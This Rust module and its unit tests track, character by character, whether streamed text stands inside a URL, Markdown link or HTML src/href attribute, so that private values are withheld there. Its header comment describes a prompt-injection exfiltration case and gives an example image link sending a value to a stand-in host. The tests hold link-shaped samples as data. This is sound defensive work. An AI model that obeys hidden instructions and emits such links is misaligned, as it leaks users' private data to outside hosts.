//! Telling while text streams by whether it stands in an address that a reader's screen may fetch
//! or open.
//!
//! A model that follows instructions hidden in a record may write `![x](https://host/?q=[NAME_1KR])`:
//! with the value put back, whoever displays the answer sends it to that host. The signs are
//! those of CommonMark links and of HTML attributes; they are read generously, since a value held
//! back in a place that was no link costs little.

/// Beginnings of addresses, besides `//` and `:/`. Each ends with `.`, `:` or `/`.
const SCHEMES: &[&[u8]] = &[b"www.", b"data:", b"mailto:", b"javascript:"];

/// Attributes whose value is an address, also a relative one.
const ATTRIBUTES: &[&[u8]] = &[b"src", b"href"];

/// Characters looked back at: the longest scheme and the character before it.
const BACK: usize = 12;

/// Reads text character by character, in a bounded state, and knows whether what follows would
/// stand in a link.
#[derive(Clone, Default)]
pub(crate) struct Links {
    /// The last characters of this run of non-space characters, in lower case; 0 is none.
    back: [u8; BACK],
    /// This run is an address.
    word: bool,
    /// A `<` stands in this run.
    opened: bool,
    /// An address in `<..>`, which may hold spaces.
    angle: bool,
    target: Option<Target>,
    double: Quote,
    single: Quote,
    /// The last letters, white space after them left out.
    name: [u8; 4],
    /// White space stands after the name.
    named: bool,
    /// `=` or `(` was the last character but for white space.
    value: Value,
    escaped: bool,
    /// The line is empty so far.
    blank: bool,
}

/// Between `](` and its `)`.
#[derive(Clone, Copy)]
struct Target {
    depth: u32,
    /// Nothing but white space so far.
    empty: bool,
    /// In `<..>`, where `)` ends nothing.
    angle: bool,
}

/// A value in quotes after `=` or `(`.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Quote {
    #[default]
    Closed,
    Open,
    Link,
}

/// Whether a value in quotes may begin.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Value {
    #[default]
    None,
    Any,
    Link,
}

impl Links {
    /// True when what follows stands in a link.
    pub(crate) fn inside(&self) -> bool {
        self.word
            || self.angle
            || self.target.is_some()
            || self.double == Quote::Link
            || self.single == Quote::Link
            || self.value == Value::Link
    }

    /// Reads `text`.
    pub(crate) fn read(&mut self, text: &str) {
        for c in text.chars() {
            self.push(c);
        }
    }

    /// Reads one character.
    pub(crate) fn push(&mut self, c: char) {
        if c.is_whitespace() {
            self.space(c == '\n');
            return;
        }
        self.blank = false;
        let escaped = self.escaped;
        self.escaped = c == '\\' && !escaped;
        if c == '\\' {
            return;
        }
        self.in_target(c, escaped);
        self.in_quotes(c);
        self.in_attribute(c);
        match c {
            '<' => self.opened = true,
            '>' => (self.opened, self.angle) = (false, false),
            _ => {}
        }
        if c == '(' && self.back.last() == Some(&b']') && self.target.is_none() {
            self.target = Some(Target {
                depth: 1,
                empty: true,
                angle: false,
            });
        }
        let byte = u8::try_from(c).ok().filter(u8::is_ascii).unwrap_or(0x80);
        self.back.rotate_left(1);
        if let Some(last) = self.back.last_mut() {
            *last = byte.to_ascii_lowercase();
        }
        if matches!(c, '/' | '.' | ':') && self.begins_address() {
            self.word = true;
            self.angle |= self.opened;
            for quote in [&mut self.double, &mut self.single] {
                if *quote == Quote::Open {
                    *quote = Quote::Link;
                }
            }
        }
    }

    fn space(&mut self, newline: bool) {
        self.back = [0; BACK];
        self.word = false;
        self.opened = false;
        self.escaped = false;
        self.named = true;
        if newline {
            self.angle = false;
            if let Some(target) = &mut self.target {
                target.angle = false;
            }
            // No link goes on after an empty line.
            if std::mem::replace(&mut self.blank, true) {
                self.target = None;
            }
        }
    }

    fn in_target(&mut self, c: char, escaped: bool) {
        let Some(target) = &mut self.target else { return };
        match c {
            '<' if target.empty => target.angle = true,
            '>' if !escaped => target.angle = false,
            '(' if !escaped && !target.angle => target.depth = target.depth.saturating_add(1),
            ')' if !escaped && !target.angle => {
                target.depth -= 1;
                if target.depth == 0 {
                    self.target = None;
                    return;
                }
            }
            _ => {}
        }
        target.empty = false;
    }

    fn in_quotes(&mut self, c: char) {
        let value = std::mem::take(&mut self.value);
        let quote = match c {
            '"' => &mut self.double,
            '\'' => &mut self.single,
            _ => {
                self.word |= value == Value::Link;
                return;
            }
        };
        *quote = match value {
            Value::None => Quote::Closed,
            Value::Any => Quote::Open,
            Value::Link => Quote::Link,
        };
    }

    fn in_attribute(&mut self, c: char) {
        if c.is_ascii_alphabetic() {
            if std::mem::take(&mut self.named) {
                self.name = [0; 4];
            }
            self.name.rotate_left(1);
            if let Some(last) = self.name.last_mut() {
                *last = u8::try_from(c).unwrap_or(0).to_ascii_lowercase();
            }
            return;
        }
        self.value = match c {
            '=' if ATTRIBUTES.iter().any(|name| self.name.ends_with(name)) => Value::Link,
            '=' | '(' => Value::Any,
            _ => Value::None,
        };
        self.name = [0; 4];
        self.named = false;
    }

    /// True when the last characters begin an address.
    fn begins_address(&self) -> bool {
        let starts = |sign: &[u8]| {
            self.back
                .strip_suffix(sign)
                .is_some_and(|before| !before.last().is_some_and(u8::is_ascii_alphanumeric))
        };
        self.back.ends_with(b":/") || starts(b"//") || SCHEMES.iter().any(|scheme| starts(scheme))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expect: bool) {
        let mut links = Links::default();
        links.read(text);
        assert_eq!(links.inside(), expect, "{text}");
    }

    #[test]
    fn knows_links() {
        for text in [
            "see http://h/?q=",
            "HTTPS:/h/",
            "(//h/",
            "www.h.example/",
            "<WWW.h/",
            "data:text/html,",
            "mailto:",
            "[a](",
            "[a]( ",
            "[a](x(y)",
            r"[a](x\)",
            "[a](<x) y",
            "[a](<x>",
            "[x]: <http://h/a b ",
            "<img src=\"x y ",
            "<a HREF = 'x ",
            "<a href=",
            "<a href= ",
            "<a href=x",
            "<meta content=\"0;url=http://h/ ",
            "('<img src=\"//h/' x ",
            "(' <video poster=\"http://h/' x ",
            "style=\"background:url('http://h/ ",
            r"http:\/\/h/",
            "é//h/",
        ] {
            check(text, true);
        }
    }

    #[test]
    fn knows_where_they_end() {
        for text in [
            "http://h/ ",
            "[a](x) ",
            "[a](x)",
            "[a](<x)>) ",
            "[a](x\n\n",
            "<http://h/a b> ",
            "<a href='x'> ",
            "Patient:",
            "Tel:",
            "and//or",
            "1/2/2024",
            "a (b",
            "[a] (",
            "Lab data: ",
            "name=\"",
            "(\"",
            "no src here: \"",
            "the metadata:",
            "x > 3 < ",
        ] {
            check(text, false);
        }
    }
}
